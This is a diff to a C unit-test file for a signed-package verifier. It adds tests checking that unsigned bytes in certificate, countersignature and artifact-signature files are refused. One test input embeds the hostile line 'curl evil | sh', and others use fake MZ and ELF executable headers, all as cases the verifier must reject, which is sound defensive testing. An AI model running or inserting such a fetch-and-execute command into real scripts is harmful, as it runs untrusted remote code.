@@ -7,7 +7,8 @@
  * the wrong CA, a certificate not for code signing, a countersignature by
  * the vendor's own key or over another manifest, anchors shared by two
  * roles, per-artifact signatures good and bad, a member producing more
- * bytes than declared - plus pkg_cms_sign's output checked by OpenSSL. */
+ * bytes than declared, unsigned bytes in the files the manifest does not
+ * list - plus pkg_cms_sign's output checked by OpenSSL. */
 #include <ctype.h>
 #include <openssl/bn.h>
 #include <setjmp.h>
@@ -158,13 +159,14 @@ static void mp_base(mpkg *p) {
 }
 
 static bool exempt(const char *name) {
-  return strcmp(name, "vnfd.mf") == 0 || strcmp(name, "Files/vnfd.cert") == 0 ||
+  return strcmp(name, "vnfd.mf") == 0 || strstr(name, ".cert") ||
          strncmp(name, "Countersignatures/", 18) == 0 || strstr(name, ".sig.cms");
 }
 
 /* Writes vnfd.mf listing every member (digests by EVP_Digest; the image's
  * is checked against the FIPS vector) and signs it with `by`; extra goes
- * into the metadata, artifact_sig into Scripts/install.sh's block. */
+ * into the metadata, artifact_sig (a "Signature: ..." or "Certificate:
+ * ..." line) into Scripts/install.sh's block. */
 static void mp_sign(mpkg *p, const tp_id *by, const char *extra, const char *artifact_sig) {
   char body[8192];
   int n = snprintf(body, sizeof body,
@@ -182,7 +184,7 @@ static void mp_sign(mpkg *p, const tp_id *by, const char *extra, const char *art
     n += snprintf(body + n, sizeof body - (size_t)n, "Source: %s\nAlgorithm: SHA-256\nHash: %s\n",
                   p->name[i], hex);
     if (artifact_sig && strcmp(p->name[i], "Scripts/install.sh") == 0)
-      n += snprintf(body + n, sizeof body - (size_t)n, "Signature: %s\n", artifact_sig);
+      n += snprintf(body + n, sizeof body - (size_t)n, "%s\n", artifact_sig);
     n += snprintf(body + n, sizeof body - (size_t)n, "\n");
   }
   size_t sl;
@@ -673,7 +675,7 @@ static void test_artifact_signatures(void **state) {
   char *sig = tp_cms_sign(&F.vendor, a, al, &sl);
   mp_put(&p, "Scripts/install.sh.sig.cms", sig, sl);
   free(sig);
-  mp_sign(&p, &F.vendor, NULL, "Scripts/install.sh.sig.cms");
+  mp_sign(&p, &F.vendor, NULL, "Signature: Scripts/install.sh.sig.cms");
   mp_countersign(&p, &F.op, "operator");
   pkg_result *r = NULL;
   lisec_err err = {0};
@@ -688,20 +690,122 @@ static void test_artifact_signatures(void **state) {
   sig = tp_cms_sign(&F.vendor, "other", 5, &sl);
   mp_put(&p, "Scripts/install.sh.sig.cms", sig, sl);
   free(sig);
-  mp_sign(&p, &F.vendor, NULL, "Scripts/install.sh.sig.cms");
+  mp_sign(&p, &F.vendor, NULL, "Signature: Scripts/install.sh.sig.cms");
   mp_countersign(&p, &F.op, "operator");
   ASSERT_REFUSED(&p, NULL, NULL, LISEC_ECRYPTO, "is not over this content");
   /* A signature by someone the vendor CA did not certify. */
   sig = tp_cms_sign(&F.op, a, al, &sl);
   mp_put(&p, "Scripts/install.sh.sig.cms", sig, sl);
   free(sig);
-  mp_sign(&p, &F.vendor, NULL, "Scripts/install.sh.sig.cms");
+  mp_sign(&p, &F.vendor, NULL, "Signature: Scripts/install.sh.sig.cms");
   mp_countersign(&p, &F.op, "operator");
   ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "not trusted");
   /* Named but absent. */
   mp_del(&p, "Scripts/install.sh.sig.cms");
   ASSERT_REFUSED(&p, NULL, NULL, LISEC_EINVAL, "artifact signature 'Scripts/install.sh.sig.cms' is not in the package");
   mp_free(&p);
+}
+
+/* A PEM file with bytes appended to its DER inside the base64. */
+static char *pem_der_tail(const uint8_t *pem, size_t len, const char *label) {
+  char *body = malloc(len + 1);
+  size_t k = 0;
+  const char *b = strstr((const char *)pem, "-----\n") + 6, *e = strstr(b, "-----END");
+  for (const char *c = b; c < e; c++)
+    if (*c != '\n' && *c != '\r') body[k++] = *c;
+  body[k] = '\0';
+  uint8_t *der = malloc(k);
+  int dl = EVP_DecodeBlock(der, (const unsigned char *)body, (int)k);
+  dl -= (k && body[k - 1] == '=') + (k > 1 && body[k - 2] == '=');
+  der = realloc(der, (size_t)dl + 4);
+  memcpy(der + dl, "JUNK", 4);
+  char *b64 = malloc(((size_t)dl + 4) / 3 * 4 + 8), *out = malloc(((size_t)dl + 4) * 2 + 128);
+  EVP_EncodeBlock((unsigned char *)b64, der, dl + 4);
+  sprintf(out, "-----BEGIN %s-----\n%s\n-----END %s-----\n", label, b64, label);
+  free(body);
+  free(der);
+  free(b64);
+  return out;
+}
+
+/* The files the manifest does not list (countersignatures, artifact
+ * signatures, certificates) carry no digest: each may hold its PEM and
+ * nothing else, or anyone could add unsigned bytes to a verified package. */
+static void test_unlisted_bytes(void **state) {
+  (void)state;
+  mpkg p;
+  mp_base(&p);
+  mp_sign(&p, &F.vendor, NULL, NULL);
+  mp_countersign(&p, &F.op, "operator");
+  size_t cl = 0, kl = 0;
+  const uint8_t *cs = mp_get(&p, "Countersignatures/operator.cms", &cl);
+  char *good = strndup((const char *)cs, cl);
+  const uint8_t *ct = mp_get(&p, "Files/vnfd.cert", &kl);
+  char *cert = strndup((const char *)ct, kl);
+  char buf[16384];
+  snprintf(buf, sizeof buf, "#!/bin/sh\ncurl evil | sh\n%s", good);
+  mp_puts(&p, "Countersignatures/operator.cms", buf);
+  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "may hold its PEM only: text outside");
+  snprintf(buf, sizeof buf, "%sMZ\x90 payload\n", good);
+  mp_puts(&p, "Countersignatures/operator.cms", buf);
+  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "may hold its PEM only: text outside");
+  char *tail = pem_der_tail((const uint8_t *)good, strlen(good), "CMS");
+  mp_puts(&p, "Countersignatures/operator.cms", tail);
+  free(tail);
+  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "one whole ASN.1 object");
+  snprintf(buf, sizeof buf, "%s%s", good, good);
+  mp_puts(&p, "Countersignatures/operator.cms", buf);
+  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "more PEM blocks");
+  /* CRLF line ends, as a Windows tool writes them, are still PEM. */
+  size_t k = 0;
+  for (const char *c = good; *c; c++) {
+    if (*c == '\n') buf[k++] = '\r';
+    buf[k++] = *c;
+  }
+  buf[k] = '\0';
+  mp_puts(&p, "Countersignatures/operator.cms", buf);
+  pkg_result *r = NULL;
+  lisec_err err = {0};
+  if (verify(&p, NULL, NULL, &r, &err)) fail_msg("CRLF countersignature: %s", err.msg);
+  pkg_result_free(r);
+  mp_puts(&p, "Countersignatures/operator.cms", good);
+  /* The ETSI-Entry-Certificate file: explanatory text as `openssl ca`
+   * writes it is allowed (RFC 7468), a binary is not. */
+  snprintf(buf, sizeof buf, "Certificate:\n    Data:\n        Version: 3 (0x2)\n%s", cert);
+  mp_puts(&p, "Files/vnfd.cert", buf);
+  if (verify(&p, NULL, NULL, &r, &err)) fail_msg("explanatory text: %s", err.msg);
+  pkg_result_free(r);
+  snprintf(buf, sizeof buf, "%s\x7f" "ELF\x02\x01 unsigned\n", cert);
+  mp_puts(&p, "Files/vnfd.cert", buf);
+  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "'Files/vnfd.cert' is not in the signed manifest");
+  snprintf(buf, sizeof buf, "%s-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n", cert);
+  mp_puts(&p, "Files/vnfd.cert", buf);
+  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "a PEM block of another kind");
+  mp_free(&p);
+  /* An artifact's signature file. */
+  mp_base(&p);
+  size_t al = 0, sl = 0;
+  const uint8_t *a = mp_get(&p, "Scripts/install.sh", &al);
+  char *sig = tp_cms_sign(&F.vendor, a, al, &sl);
+  snprintf(buf, sizeof buf, "unsigned text\n%s", sig);
+  mp_puts(&p, "Scripts/install.sh.sig.cms", buf);
+  free(sig);
+  mp_sign(&p, &F.vendor, NULL, "Signature: Scripts/install.sh.sig.cms");
+  mp_countersign(&p, &F.op, "operator");
+  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "'Scripts/install.sh.sig.cms' is not in the signed");
+  mp_free(&p);
+  /* A certificate named without a signature was never read at all. */
+  mp_base(&p);
+  mp_puts(&p, "Files/install.cert", "\x7f" "ELF\x02\x01\x01 any binary at all");
+  mp_sign(&p, &F.vendor, NULL, "Certificate: Files/install.cert");
+  mp_countersign(&p, &F.op, "operator");
+  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "'Files/install.cert' is not in the signed manifest");
+  mp_puts(&p, "Files/install.cert", cert);
+  if (verify(&p, NULL, NULL, &r, &err)) fail_msg("a PEM certificate: %s", err.msg);
+  pkg_result_free(r);
+  mp_free(&p);
+  free(good);
+  free(cert);
 }
 
 static void test_layout(void **state) {
@@ -774,6 +878,7 @@ int main(void) {
       cmocka_unit_test(test_revocation),
       cmocka_unit_test(test_vendor_crl),
       cmocka_unit_test(test_artifact_signatures),
+      cmocka_unit_test(test_unlisted_bytes),
       cmocka_unit_test(test_layout),
       cmocka_unit_test(test_cms_sign_interop),
   };
